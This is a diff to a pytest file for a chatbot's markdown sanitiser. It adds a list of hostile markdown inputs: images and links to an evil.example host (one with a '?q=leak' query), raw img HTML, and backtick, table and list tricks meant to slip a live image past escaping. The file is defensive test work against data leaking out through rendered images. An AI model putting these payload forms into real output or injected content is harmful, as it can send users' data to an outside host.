@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 import pytest
 
 from chatbot.answer import Answer, Citation
@@ -10,6 +12,7 @@ from chatbot.render import (
     CARDS_UP_TO,
     answer_markdown,
     citation_numbers,
+    code_spans,
     describe_error,
     escape_markdown,
     fenced,
@@ -38,8 +41,50 @@ def test_safe_markdown_leaves_code_alone():
     assert safe_markdown(text) == text
 
 
-def test_safe_markdown_backslashes_cannot_unescape_brackets():
-    assert safe_markdown("\\[x\\](y)") == "\\\\\\[x\\\\\\](y)"
+def test_safe_markdown_keeps_escapes_as_they_are():
+    # an escaped bracket is already literal; an escaped backtick must stay escaped (not live)
+    assert safe_markdown("\\[x\\](y)") == "\\[x\\](y)"
+    assert safe_markdown("\\` x `![p](http://e.x/p.png)`") == "\\` x `![p](http://e.x/p.png)`"
+
+
+HOSTILE = [
+    "` ![p](http://evil.example/p.png?q=leak) ``",  # one backtick "closed" by two: not code
+    "``` ![p](http://evil.example/p.png)",  # a fence opener mid-line is not a fence... (it is at line start: code)
+    "x ``` ![p](http://evil.example/p.png)",  # mid-line: literal backticks, live image
+    "a `b` ![p](http://evil.example/p.png) `c",
+    "\\` ![p](http://evil.example/p.png) `",
+    "para `code\n\n![p](http://evil.example/p.png)` more",  # a code span cannot cross paragraphs
+    "| a | b |\n|---|---|\n| `x|![p](http://evil.example/p.png)` | y |",  # pipes split cells
+    "- item `one\n- ![p](http://evil.example/p.png) two`",
+    "> `q\n![p](http://evil.example/p.png)`",
+    "<img src=http://evil.example/p.png>",
+    "[click](http://evil.example) and <http://evil.example> and www.evil.example and x@evil.example",
+    "` http://evil.example ![p](http://evil.example/p.png)",
+    "Title: Alien](http://evil.example) ![x](//evil.example/p.png)",
+]
+
+
+def _html_outside_code(markdown: str) -> str:
+    from markdown_it import MarkdownIt
+
+    html = MarkdownIt("commonmark").enable("table").render(markdown)
+    return re.sub(r"<pre>.*?</pre>|<code>.*?</code>", "", html, flags=re.S)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_safe_markdown_leaves_no_live_image_link_or_url_by_a_commonmark_parser(text):
+    """What a CommonMark renderer makes of the defused text: no image, no link, no HTML, and
+    no bare URL outside code (GFM would autolink it)."""
+    outside = _html_outside_code(safe_markdown(text))
+    assert "<img" not in outside and "<a " not in outside
+    assert not re.search(r"https?://|www\.|@evil", outside), outside
+
+
+def test_code_spans_follow_commonmark():
+    assert code_spans("a `b` c") == [(2, 5)]
+    assert code_spans("` x ``") == []  # no closer of the same length
+    assert code_spans("``a`b``") == [(0, 7)]
+    assert code_spans("\\`a` `b`") == [(3, 6)]  # the escaped backtick opens nothing: "` `" is the span
 
 
 def test_escape_markdown_escapes_everything_and_codes_urls():
